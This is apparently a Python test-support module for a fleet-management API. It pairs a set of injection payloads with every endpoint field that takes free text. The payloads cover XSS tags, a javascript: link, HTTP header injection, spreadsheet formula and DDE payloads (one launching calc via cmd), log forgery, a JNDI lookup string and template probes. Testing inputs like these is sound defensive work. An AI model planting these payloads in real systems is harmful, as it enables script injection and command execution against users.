"""Texts that do harm when a program interprets them, and every field of the API that takes free text."""

import json
import time
import uuid
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

HALF: Final = "lone \ud800 surrogate"  # invalid JSON text: HTTP refuses the body, the bridge uses the valid part
TEXTS: Final = {
    "a tag": "<img src=x onerror=alert(1)>",
    "a script that ends another": "</script><script>alert(2)</script>",
    "an attribute": "\"'><a href='javascript:alert(3)'>",
    "writing turned round": "invoice\u202egpj.exe\u2066\u2069\u200f",
    "colours of a terminal": "\x1b[31mred\x1b[0m\x07\x08\x9b31m\x7f",
    "a header": "one\r\nX-Injected: yes\r\n\r\n<b>two",
    "other line ends": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "a formula": '=HYPERLINK("//h.example/?"&A1)',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a log line": '"}\n{"severity":"ERROR","message":"forged"}',
    "half a character": HALF,
    "nothing at all": "before\x00after",
    "what formatters read": "%s %(a)s {0.__class__} ${jndi:x} {{7*7}}",
    "beyond the first plane": "\U0001f600\U000e0041\ufeff",
}  # fmt: skip


def strings_of(tree: Any) -> Iterator[str]:
    """Every text and key in a tree of JSON values."""
    if isinstance(tree, str):
        yield tree
    elif isinstance(tree, dict):
        for key, value in tree.items():
            yield key
            yield from strings_of(value)
    elif isinstance(tree, list):
        for value in tree:
            yield from strings_of(value)


Body = Callable[[str], dict[str, Any]]


@dataclass(frozen=True)
class Way:
    """One request with free texts: `body` makes its body, in which the text of each field ends in the field's name."""

    method: str
    path: str
    fields: tuple[str, ...]
    body: Body
    reads: tuple[str, ...] = ()
    """Further paths whose answers show the texts."""
    undo: str = ""
    """Method and path of the request that removes the object again."""
    is_refused: bool = False
    """Whether the request must be refused with a 4xx, because the text is not free after all."""
    comes_out: bool = True

    @property
    def name(self) -> str:
        return f"{self.method} {self.path} {','.join(self.fields)}"


def in_an_hour() -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 3600))


def snooze(scope: str) -> dict[str, Any]:
    """The body of a quiet time."""
    return {"preset": "snooze", "scope": scope, "ends_at": in_an_hour()}


def for_later(**more: Any) -> dict[str, Any]:
    """The body of a schedule."""
    return {"action": "restart_app", "filter": {"site": "s"}, "at": in_an_hour(), "time_zone": "UTC", **more}


CHANNEL: Final = {"kind": "webhook", "url": "https://hooks.example.org/x"}
HOURS: Final = {"weekdays": ["mon"], "begin": "08:00", "end": "09:00"}
WAYS: Final = (
    Way(
        "PATCH",
        "/api/clients/{client}",
        ("name", "notes", "site", "tags[]"),
        lambda t: {"name": f"{t} name", "notes": f"{t} notes", "site": f"{t} site", "tags": [f"{t} tags[]"]},
        ("/api/clients/{client}", "/api/clients", "/api/monitoring/overview", "/api/audit"),
    ),
    Way(
        "POST",
        "/api/clients/{client}/commands",
        ("reason",),
        lambda t: {"action": "shutdown_host", "reason": f"{t} reason"},
        ("/api/clients/{client}/commands",),
        undo="POST /api/commands/{id}/cancel",
    ),
    Way(
        "POST",
        "/api/commands",
        ("reason",),
        lambda t: {"action": "restart_app", "clients": [str(uuid.UUID(int=5))], "reason": f"{t} reason"},
        ("/api/command-batches",),
    ),
    Way(
        "POST",
        "/api/commands",
        ("filter.q", "filter.site", "filter.tag", "filter.version"),
        lambda t: {
            "action": "restart_app",
            "dry_run": True,
            "filter": dict.fromkeys(("q", "site", "tag", "version"), t),
        },
        is_refused=True,
    ),
    Way(
        "PUT",
        "/api/screenshot-policy",
        ("site",),
        lambda t: {"site": f"{t} site", "allowed": False},
        ("/api/screenshot-policy",),
    ),
    Way(
        "PUT",
        "/api/expectations",
        ("address", "target", "title"),
        lambda t: {"scope": "site", "address": f"{t} address", "target": f"{t} target", "title": f"{t} title"},
        ("/api/expectations", "/api/audit"),
        undo="DELETE /api/expectations/{id}",
    ),
    Way("POST", "/api/recovery/breaker/release", ("site",), lambda t: {"site": f"{t} site"}, comes_out=False),
    Way(
        "POST",
        "/api/quiet-times",
        ("reason", "site"),
        lambda t: {**snooze("site"), "reason": f"{t} reason", "site": f"{t} site"},
        ("/api/quiet-times", "/api/monitoring/overview"),
        undo="DELETE /api/quiet-times/{id}",
    ),
    Way(
        "POST",
        "/api/quiet-times",
        ("tag",),
        lambda t: {**snooze("tag"), "tag": f"{t} tag"},
        ("/api/quiet-times",),
        undo="DELETE /api/quiet-times/{id}",
    ),
    Way(
        "POST",
        "/api/quiet-times",
        ("time_zone",),
        lambda t: {
            "preset": "opening_hours",
            "scope": "fleet",
            "hours": [{"days": ["monday"], "from": "08:00", "to": "09:00"}],
            "time_zone": t,
        },
        is_refused=True,
    ),
    Way(
        "POST",
        "/api/schedules",
        ("reason", "filter.site", "filter.tag", "filter.version", "filter.q"),
        lambda t: for_later(
            reason=f"{t} reason",
            filter={name: f"{t} filter.{name}" for name in ("site", "tag", "version", "q")},
        ),
        ("/api/schedules", "/api/audit"),
        undo="DELETE /api/schedules/{id}",
    ),
    Way("POST", "/api/schedules", ("time_zone",), lambda t: for_later(time_zone=t), is_refused=True),
    Way(
        "POST",
        "/api/notifications/channels",
        ("name", "sites[]"),
        lambda t: {**CHANNEL, "name": f"{t} name", "sites": [f"{t} sites[]"]},
        ("/api/notifications/channels", "/api/audit"),
        undo="DELETE /api/notifications/channels/{id}",
    ),
    Way(
        "POST",
        "/api/notifications/channels",
        ("hours.time_zone",),
        lambda t: {**CHANNEL, "name": "zone", "hours": {**HOURS, "time_zone": t}},
        is_refused=True,
    ),
    Way(
        "POST",
        "/api/tokens",
        ("name", "sites[]"),
        lambda t: {"name": f"{t} name", "role": "viewer", "sites": [f"{t} sites[]"]},
        ("/api/tokens", "/api/audit"),
        undo="DELETE /api/tokens/{id}",
    ),
    Way(
        "POST",
        "/api/status-links",
        ("name", "site"),
        lambda t: {"name": f"{t} name", "site": f"{t} site"},
        ("/api/status-links", "/api/audit"),
        undo="DELETE /api/status-links/{id}",
    ),
    Way("POST", "/api/users", ("username",), lambda t: {"username": t, "role": "viewer"}, is_refused=True),
    Way("POST", "/api/session", ("username",), lambda t: {"username": t, "password": t}, is_refused=True),
    Way("POST", "/api/enroll", ("code",), lambda t: {"code": t}, is_refused=True),
)
# Fields of free text that no Way writes -> why.
ELSEWHERE: Final = {
    ("post", "/api/session", "password"): "a secret",
    ("post", "/api/enroll/rotate", "password"): "a secret",
    ("post", "/api/commands/{command_id}/end", "reason"): "in the audit log alone",
    ("post", "/api/incidents/{incident_id}/take", "note"): "folded as a name: tests/api/test_taken.py",
    ("post", "/api/incidents/{incident_id}/take", "instead_of"): "compared, and never kept",
    ("post", "/api/clients/{uuid}/service_failed/take", "note"): "folded as a name: tests/api/test_taken.py",
    ("post", "/api/clients/{uuid}/service_failed/take", "instead_of"): "compared, and never kept",
    ("patch", "/api/clients", "site"): "as that of one display",
    ("patch", "/api/clients", "add_tags[]"): "as the tags of one display",
    ("patch", "/api/clients", "remove_tags[]"): "compared, and never kept",
    ("post", "/api/users", "sites[]"): "as those of a token",
    ("post", "/api/sites/rename", "site"): "compared, and never kept",
    ("post", "/api/sites/rename", "to"): "as that of one display",
    ("patch", "/api/users/{user_id}", "sites[]"): "as those of a token",
    ("post", "/api/users/{user_id}/reset-password", "username"): "compared, and never kept",
    ("post", "/api/users/{user_id}/reset-second-factor", "username"): "compared, and never kept",
    ("post", "/api/session", "code"): "a secret",
    ("post", "/api/users/me/second-factor", "current_password"): "a secret",
    ("post", "/api/users/me/second-factor/confirm", "code"): "a secret",
    ("post", "/api/users/me/second-factor/remove", "current_password"): "a secret",
    ("post", "/api/users/me/second-factor/remove", "code"): "a secret",
    ("post", "/api/users/me/password", "current_password"): "a secret",
    ("post", "/api/users/me/password", "new_password"): "a secret",
    ("post", "/api/notifications/channels", "url"): "a secret: tests/api/test_notifications.py",
    ("post", "/api/notifications/channels", "signing_secret"): "a secret: tests/api/test_notifications.py",
    ("post", "/api/notifications/channels/test", "name"): "as when it is added",
    ("post", "/api/notifications/channels/test", "url"): "a secret: tests/api/test_notifications.py",
    ("post", "/api/notifications/channels/test", "signing_secret"): "a secret: tests/api/test_notifications.py",
    ("patch", "/api/notifications/channels/{channel_id}", "url"): "a secret",
    ("patch", "/api/notifications/channels/{channel_id}", "signing_secret"): "a secret",
    ("patch", "/api/notifications/channels/{channel_id}", "name"): "as when it is added",
    ("patch", "/api/notifications/channels/{channel_id}", "sites[]"): "as when it is added",
    ("patch", "/api/notifications/channels/{channel_id}", "hours.time_zone"): "as when it is added",
    ("patch", "/api/quiet-times/{quiet_id}", "reason"): "as when it is made",
    ("patch", "/api/quiet-times/{quiet_id}", "time_zone"): "as when it is made",
    ("patch", "/api/schedules/{schedule_id}", "reason"): "as when it is planned",
    ("patch", "/api/schedules/{schedule_id}", "time_zone"): "as when it is planned",
    ("patch", "/api/event-media/{media_id}", "filename"): "below: files",
}


DOCUMENT: Final = json.loads((Path(__file__).parents[2] / "docs" / "openapi.json").read_text(encoding="utf-8"))


def free_texts() -> Iterator[tuple[str, str, str]]:
    """Method, path and field of every text in a JSON body that has neither a list of words nor a pattern."""
    for path, methods in DOCUMENT["paths"].items():
        for method, operation in methods.items():
            body = operation.get("requestBody", {}).get("content", {}).get("application/json")
            for field in _texts_inside(body["schema"], "") if body else ():
                yield method, path, field


def _texts_inside(schema: Mapping[str, Any], at: str) -> Iterator[str]:
    while "$ref" in schema:
        schema = DOCUMENT["components"]["schemas"][schema["$ref"].rpartition("/")[2]]
    for part in (*schema.get("anyOf", ()), *schema.get("oneOf", ())):
        yield from _texts_inside(part, at)
    for name, part in schema.get("properties", {}).items():
        yield from _texts_inside(part, f"{at}.{name}".lstrip("."))
    if "items" in schema:
        yield from _texts_inside(schema["items"], f"{at}[]")
    has_form = {"enum", "const", "format", "pattern"} & schema.keys()
    if schema.get("type") == "string" and (not has_form or at == "username"):
        yield at
